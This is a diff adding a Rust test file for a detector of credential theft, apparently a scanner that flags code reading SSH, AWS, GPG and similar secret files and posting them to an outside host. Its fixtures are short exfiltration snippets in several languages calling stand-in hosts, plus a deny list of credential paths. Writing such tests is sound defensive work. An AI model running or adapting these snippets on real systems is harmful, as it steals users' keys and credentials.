@@ -1,0 +1,83 @@
+use super::*;
+
+fn found(files: &[(&str, &str)]) -> Vec<(usize, u32)> {
+    let data = [".json", ".txt", ".yml", ".psd1"];
+    let files: Vec<_> = files
+        .iter()
+        .map(|(path, text)| GatheredFile {
+            path,
+            text,
+            is_program: !data.iter().any(|end| path.ends_with(end)),
+        })
+        .collect();
+    gathered(&files).into_iter().map(|found| (found.file, found.chain.last_line())).collect()
+}
+
+#[test]
+fn keys_of_several_services_and_a_host_are_enough_in_any_language() {
+    for (path, text) in [
+        (
+            "a.kt",
+            "val home = System.getProperty(\"user.home\")\nval all = listOf(\".ssh/id_rsa\", \".netrc\", \".kube/config\").map { File(home, it).readText() }\nval c = URL(\"https://in.example.invalid/x\").openConnection() as HttpURLConnection\nc.requestMethod = \"POST\"\nc.outputStream.write(all.joinToString().toByteArray())\n",
+        ),
+        (
+            "a.rb",
+            "SINK = URI('http://203.0.113.9/x')\nall = %w[.aws/credentials .npmrc .gem/credentials].map { |f| File.read(File.join(Dir.home, f)) }\nputs 1\nputs 2\nputs 3\nputs 4\nputs 5\nputs 6\nputs 7\nNet::HTTP.post(SINK, all.to_json)\n",
+        ),
+        (
+            "a.ps1",
+            "$all = '.ssh\\id_rsa', '.docker\\config.json', '.azure\\accessTokens.json' | % { Get-Content \"$env:USERPROFILE\\$_\" }\n$w = New-Object Net.WebClient\n$w.UploadString('https://in.example.invalid', $all)\n",
+        ),
+        (
+            "a.js",
+            "const at = ['.ssh', '.gnupg', '.password-store'].map((d) => path.join(os.homedir(), d));\nconst z = pack(at.flatMap(readTree));\nclient.request({ host: 'in.example.invalid', method: 'POST' }).end(z);\n",
+        ),
+    ] {
+        assert_eq!(found(&[(path, text)]).len(), 1, "{path}");
+    }
+}
+
+#[test]
+fn one_program_gathers_and_another_sends() {
+    let keys = "import os, tarfile\nt = tarfile.open('/tmp/.x', 'w')\nfor p in ('~/.ssh', '~/.gnupg', '~/.pgpass'):\n    t.add(os.path.expanduser(p))\n";
+    let send = "curl -fsS -T /tmp/.x \"https://in.example.invalid/x\"\n";
+    let main = "python3 lib/take.py\nsh lib/give.sh\n";
+    let files = [("main.sh", main), ("lib/take.py", keys), ("lib/give.sh", send)];
+    assert_eq!(found(&files), [(2, 1)]);
+    assert_eq!(found(&[("lib/take.py", keys), ("lib/give.sh", send)]), [], "nothing joins them");
+    let config = "{\"places\": [\".ssh/id_rsa\", \".aws/credentials\", \".npmrc\"],\n \"sink\": \"https://in.example.invalid/x\"}";
+    let load = "const { places, sink } = require('./conf.json');\nconst all = places.map((p) => fs.readFileSync(os.homedir() + '/' + p));\nrequest(sink, { method: 'POST', body: all });\n";
+    assert_eq!(found(&[("load.js", load), ("conf.json", config)]), [(0, 3)]);
+}
+
+#[test]
+fn honest_programs_that_know_where_keys_lie_send_nothing_or_ask_where() {
+    for (path, text) in [
+        // A guard that keeps an agent from them, and tells its maker what it refused.
+        (
+            "guard.py",
+            "import json, sys, requests\nfrom pathlib import Path\nDENIED = [\n    Path.home() / '.ssh',\n    Path.home() / '.aws/credentials',\n    Path.home() / '.gnupg',\n    Path.home() / '.netrc',\n]\ncall = json.load(sys.stdin)\nrequests.post('https://api.vendor.example/audit', json={'tool': call['tool']})\n",
+        ),
+        // A backup to a place that the user names.
+        (
+            "backup.sh",
+            "tar czf - ~/.ssh ~/.gnupg ~/.aws/credentials ~/.netrc | gpg -c > \"$1\"\ncurl -fsS -T \"$1\" \"$BACKUP_URL\"\n",
+        ),
+        // A check of rights that sends nothing.
+        (
+            "doctor.rb",
+            "%w[.ssh/id_rsa .netrc .npmrc .kube/config].each { |f| puts f if File.stat(File.join(Dir.home, f)).mode & 0o77 != 0 }\nputs Net::HTTP.get(URI('https://status.vendor.example'))\n",
+        ),
+        // Two services that work together.
+        (
+            "push.py",
+            "import os, requests\nk = open(os.path.expanduser('~/.kube/config')).read()\nd = open(os.path.expanduser('~/.docker/config.json')).read()\nrequests.post('https://hooks.vendor.example/done', json={'text': 'pushed'})\n",
+        ),
+        (
+            "docs.py",
+            "\"\"\"Never print ~/.ssh/id_rsa, ~/.aws/credentials or ~/.netrc.\n\nRead home with open().\n\"\"\"\nimport requests\nrequests.post('https://api.vendor.example', json={})\n",
+        ),
+    ] {
+        assert_eq!(found(&[(path, text)]), [], "{path}");
+    }
+}
